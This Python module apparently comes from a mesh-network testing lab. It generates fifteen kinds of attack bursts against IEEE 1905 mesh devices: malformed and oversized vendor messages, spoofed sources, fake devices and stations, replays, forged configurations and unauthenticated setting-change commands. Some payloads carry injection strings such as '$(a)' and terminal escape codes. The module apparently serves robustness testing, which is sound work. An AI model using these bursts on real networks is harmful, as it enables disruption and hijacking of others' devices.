"""Attacks on a mesh. An attack is a function that builds one burst: frames that are sent one after another
under one message identifier. The same seed builds the same bursts."""

import random
from dataclasses import dataclass, field

from meshlab.ieee1905 import (END, FLAG_LAST, FLAG_RELAY, INTEL_OUI, VENDOR_OUI, MULTICAST, RSSI_REQUEST, TLV_AL_MAC,
                              TLV_DEVICE_INFORMATION, TLV_MAC_ADDRESS, TLV_NEIGHBOURS, TLV_VENDOR, TOPOLOGY_DISCOVERY,
                              TOPOLOGY_NOTIFICATION, TOPOLOGY_QUERY, TOPOLOGY_RESPONSE, VENDOR_SPECIFIC, IntelHeader, cmdu,
                              ethernet, fragments, mac_bytes, tlv, vendor_frame, vendor_message)

MAX_VALUE = 16383  # bytes of a TLV that hosts accept
REPORT, STATE_RESPONSE, CONF_RESPONSE = 36, 9, 1
QUESTIONS = (0, 2, 8, 70, 76)  # configuration, power state, stations, password, country
RESULTS = (5, 21, 23, 27, 32, 35)  # one byte each
FAKES = 1024  # invented devices


@dataclass
class Network:
    """AL MACs from the JSON file of the attacking device."""
    local: str
    controller: str
    victims: list  # every device but the local one
    random: random.Random
    fakes: list = field(default_factory=list)

    def __post_init__(self):
        self.fakes = [f"02:bd:{self.random.randrange(256):02x}:00:{n >> 8:02x}:{n & 255:02x}" for n in range(FAKES)]

    def victim(self):
        return self.random.choice(self.victims)

    def fake(self):
        return self.random.choice(self.fakes)

    def noise(self, count):
        return self.random.randbytes(count)

    def station(self):
        return b"\x02\xbe" + self.noise(4)

    def false_station(self):
        """Returns one of 16, so that they do not displace real stations of the devices that they are reported for."""
        return b"\x02\xbe\xff\0\0" + bytes([self.random.randrange(16)])


def read_network(model, seed):
    devices = model["kv1905"]["DeviceList"]
    local = next(device["ID"] for device in devices if device["Local"])
    victims = [device["ID"] for device in devices if not device["Local"]]
    if not victims:
        raise ValueError("the device's own file lists no other device yet")
    return Network(local, model["kv1905"]["Controller"] or victims[0], victims, random.Random(seed))


# ---- The probe after a flood

PROBER, PROBE_ID = "02:bd:ff:ff:ff:fe", 0xFFFE


def topology_query(victim):
    return ethernet(victim, PROBER, cmdu(TOPOLOGY_QUERY, PROBE_ID, END))


def answers_to(frame, victim):
    expected = ethernet(PROBER, victim, cmdu(TOPOLOGY_RESPONSE, PROBE_ID, b""))[:20]
    return frame[:20] == expected


# ---- Payloads of well-formed messages


def state_record(station, network):
    return station + b"\x01\x05" + network.noise(16)


def report_payload(reporter, stations):
    """As many as fit: 27 characters each."""
    text = b"".join(b"024{0=%s}" % station.hex(":").encode() for station in stations)
    return mac_bytes(reporter) + len(text).to_bytes(2, "big") + text


def conf_payload(subject, *attributes):
    return (mac_bytes(subject) + bytes([len(attributes)]) +
            b"".join(bytes([kind]) + len(value).to_bytes(2, "big") + value for kind, value in attributes))


def false_configuration(subject, network):
    return conf_payload(subject, (0, b"\0"), (7, b"<b>hostile</b>\n\x1b[2J" + network.noise(20)), (12, b"OFF"),
                        (16, b"3.0"), (116, b"99999999"))


def relayed(source, originator, message_type, tlvs):
    """To every device of the network."""
    body = tlvs + tlv(TLV_AL_MAC, mac_bytes(originator)) + END
    return ethernet(MULTICAST, source, cmdu(message_type, 0, body, flags=FLAG_LAST | FLAG_RELAY))


def multicast(source, originator, value):
    return relayed(source, originator, VENDOR_SPECIFIC, tlv(TLV_VENDOR, value))


def discovery(fake):
    body = tlv(TLV_AL_MAC, mac_bytes(fake)) + tlv(TLV_MAC_ADDRESS, mac_bytes(fake)) + END
    return ethernet(MULTICAST, fake, cmdu(TOPOLOGY_DISCOVERY, 0, body))


def topology_response(subject, victim, source, neighbours):
    return ethernet(victim, source, cmdu(TOPOLOGY_RESPONSE, 0, topology_report(subject, neighbours) + END))


def topology_report(subject, neighbours):
    mac = mac_bytes(subject)
    return (tlv(TLV_DEVICE_INFORMATION, mac + b"\x01" + mac + b"\0\x01\0") +
            tlv(TLV_NEIGHBOURS, mac + b"".join(mac_bytes(other) + b"\0" for other in neighbours)))


def settings(controller, target):
    """(type, payload) of everything that changes a device. Each is sound and would work."""
    mac = mac_bytes(target)
    url = b"http://192.0.2.1/x"
    command = f"2 {target}".encode()
    return ((4, mac), (22, mac), (26, mac), (33, mac + b"\0"), (34, mac + b"\0"),
            (6, mac + b"\x01" + mac[:5] + b"\x20" + b"\x01\x03\0"),
            (20, b"\x01" + (len(url) + 1).to_bytes(2, "big") + b"\x01" + url),
            (25, bytes(2) + len(command).to_bytes(2, "big") + command),
            (69, mac_bytes(controller) + b"\0\x08" + b"hostile!" + bytes(248)),
            (77, mac_bytes(controller) + b"\x02" + b"XX"))


# ---- Attacks. --help prints the first line of each text.


def malformed(network):
    """vendor messages of every type that are cut off, of other vendors, or contain random bytes"""
    fake, kind = network.fake(), network.random.randrange(80)
    whole = vendor_message(fake, kind, network.noise(network.random.randrange(5)))
    value = network.random.choice((
        whole, whole[:network.random.randrange(len(whole))], INTEL_OUI + network.noise(network.random.randrange(24)),
        network.noise(3) + whole[3:], vendor_message(fake, 0xFF00 | kind, b""), VENDOR_OUI))
    return [vendor_frame(network.victim(), fake, 0, value)]


def lengths(network):
    """wrong lengths and counts: payloads, attributes, stations, records, TLVs"""
    fake = network.fake()
    mac, random_ = mac_bytes(fake), network.random
    kind, payload, claimed = random_.choice((
        (0, mac, random_.choice((7, 0xFFFF))),
        (CONF_RESPONSE, mac + b"\xff" + b"\x07\0\x02ab", None),
        (CONF_RESPONSE, mac + b"\x01" + b"\x07\xff\xff" + network.noise(900), None),
        (3, mac + bytes([random_.randrange(31, 256)]) + network.noise(270), None),
        (7, b"\xff" + network.noise(40), None),
        (STATE_RESPONSE, b"\xff" + state_record(network.station(), network) * random_.randrange(60), None),
        (REPORT, mac + b"\xff\xff" + b"024{0=02:00:00:00:00:01}", None),
        (REPORT, mac + b"\0\x12" + b"999{0=02:00:00:00}", None),
        (REPORT, mac + b"\0\x12" + b"-05{0=02:00:00:00}", None),
        (REPORT, mac + b"\0\x12" + b"001{0=02:00:00:00}", None),
        (20, b"\x01\xff\xff\x01" + b"u" * 64, None),
        (25, b"\0\0\xff\xff" + b"2 " * 40, None),
        (69, mac + b"\xff\xff" + network.noise(256), None),
        (77, mac + b"\xff" + b"DE", None),
        (77, mac + b"\x04" + b"$(a)", None)))
    value = vendor_message(fake, kind, payload, claimed)
    body = tlv(TLV_VENDOR, value, random_.choice((None, None, None, len(value) + 1, 0xFFFF, 2))) + END
    return [ethernet(network.victim(), fake, cmdu(VENDOR_SPECIFIC, 0, body))]


def oversized(network):
    """vendor messages of the largest sizes, in many frames"""
    fake = network.fake()
    size = network.random.choice((1400, 6121, MAX_VALUE - 15, MAX_VALUE, 30000))
    stations = b"\xff" + b"".join(state_record(network.station(), network) for _ in range(255))
    value = vendor_message(fake, STATE_RESPONSE, stations + bytes(max(size - len(stations), 0)))
    return fragments(network.victim(), fake, VENDOR_SPECIFIC, tlv(TLV_VENDOR, value) + END)


def unfinished(network):
    """first, middle and last fragments of messages that are never complete"""
    source = "02:bf:" + network.noise(4).hex(":")
    flags = network.random.choice((0, 0, 0, FLAG_RELAY, FLAG_LAST))
    return [ethernet(network.victim(), source, cmdu(VENDOR_SPECIFIC, 0, tlv(TLV_VENDOR, network.noise(1400)),
                                                  fragment=network.random.choice((0, 1, 1, 2, 254, 255)), flags=flags))]


def sources(network):
    """addresses of real devices and of the receiver as Ethernet source"""
    victim = network.victim()
    source = network.random.choice((victim, victim[:-2] + "10", victim[:-2] + "11", network.controller, network.local,
                                  network.victim(), network.victim()[:-2] + "10"))
    kind, payload = network.random.choice(((CONF_RESPONSE, false_configuration(source, network)), (0, mac_bytes(victim)),
                                         (REPORT, report_payload(source, [network.false_station()]))))
    return [network.random.choice((vendor_frame(victim, source, 0, vendor_message(source, kind, payload)),
                                 topology_response(source, victim, source, [network.fake()])))]


def names(network):
    """false configurations and stations in the names of real devices and of the receiver"""
    subject, sender = network.random.choice(network.victims + [network.local]), network.fake()
    kind, payload = network.random.choice((
        (CONF_RESPONSE, false_configuration(subject, network)),
        (REPORT, report_payload(subject, [network.false_station()])),
        (STATE_RESPONSE, b"\x01" + state_record(network.false_station(), network))))
    value = vendor_message(subject, kind, payload)
    return [network.random.choice((vendor_frame(network.victim(), sender, 0, value), multicast(sender, subject, value)))]


def devices(network):
    """devices that do not exist: discoveries, notifications, topology responses with many neighbours"""
    fake, victim = network.fake(), network.victim()
    return [network.random.choice((discovery(fake), relayed(fake, fake, TOPOLOGY_NOTIFICATION, b""),
                                 topology_response(fake, victim, fake, network.random.sample(network.fakes, 150))))]


def silent(network):
    """devices that join, send one vendor message, and never answer a query"""
    fake, victim = network.random.choice(network.fakes[:64]), network.victim()
    return [topology_response(fake, victim, fake, [victim]),
            vendor_frame(victim, fake, 0, vendor_message(fake, CONF_RESPONSE, false_configuration(fake, network)))]


def stations(network):
    """stations that do not exist, of devices that do not exist"""
    fake, victim = network.random.choice(network.fakes[:128]), network.victim()
    reported = [network.station() for _ in range(47)]
    records = b"".join(state_record(network.station(), network) for _ in range(60))
    return [relayed(fake, fake, TOPOLOGY_RESPONSE, topology_report(fake, [])),
            multicast(fake, fake, vendor_message(fake, REPORT, report_payload(fake, reported))),
            vendor_frame(victim, fake, 0, vendor_message(fake, STATE_RESPONSE, b"\x3c" + records))]


def replay(network):
    """the same message many times, with one identifier and with many"""
    subject = network.victims[0]
    value = vendor_message(subject, CONF_RESPONSE, conf_payload(subject, (16, b"3.0")))
    return [multicast(network.local, subject, value)] * 4 + [vendor_frame(network.victim(), network.local, 0, value)] * 4


def queries(network):
    """queries from devices that do not exist; for some the device runs a program"""
    fake, victim = network.fake(), network.victim()
    return [vendor_frame(victim, fake, 0, vendor_message(fake, network.random.choice(QUESTIONS), mac_bytes(victim)))]


def results(network):
    """results of commands that were never sent"""
    fake = network.fake()
    value = vendor_message(fake, network.random.choice(RESULTS), bytes([network.random.choice((0, 1, 7, 16, 64))]))
    return [vendor_frame(network.victim(), fake, 0, value)]


def countries(network):
    """countries of devices that do not exist; without a guard each is stored and passed to the driver"""
    fake = network.fake()
    value = vendor_message(fake, 77, mac_bytes(fake) + b"\x02" + network.random.choice((b"XX", b"YY")))
    return [vendor_frame(network.victim(), fake, 0, value)]


def intel(network):
    """Intel signal requests, valid and cut off"""
    header = IntelHeader(network.noise(4), network.noise(2), network.noise(6), network.noise(2))
    value = header.message(network.random.choice((RSSI_REQUEST, RSSI_REQUEST, 0x68, 0x6A, 0xFF)), network.station())
    cut = network.random.choice((None, None, network.random.randrange(3, len(value))))
    return [vendor_frame(network.victim(), network.fake(), 0, value[:cut])]


def commands(network):
    """valid requests that change a device, from unknown devices; without a guard it changes"""
    fake, victim = network.fake(), network.victim()
    kind, payload = network.random.choice(settings(network.controller, victim))
    value = vendor_message(network.random.choice((fake, network.controller)), kind, payload)
    return [network.random.choice((vendor_frame(victim, fake, 0, value), multicast(fake, fake, value)))]


ATTACKS = {attack.__name__: attack for attack in (
    malformed, lengths, oversized, unfinished, sources, names, devices, silent, stations, replay, queries, results,
    countries, intel, commands)}
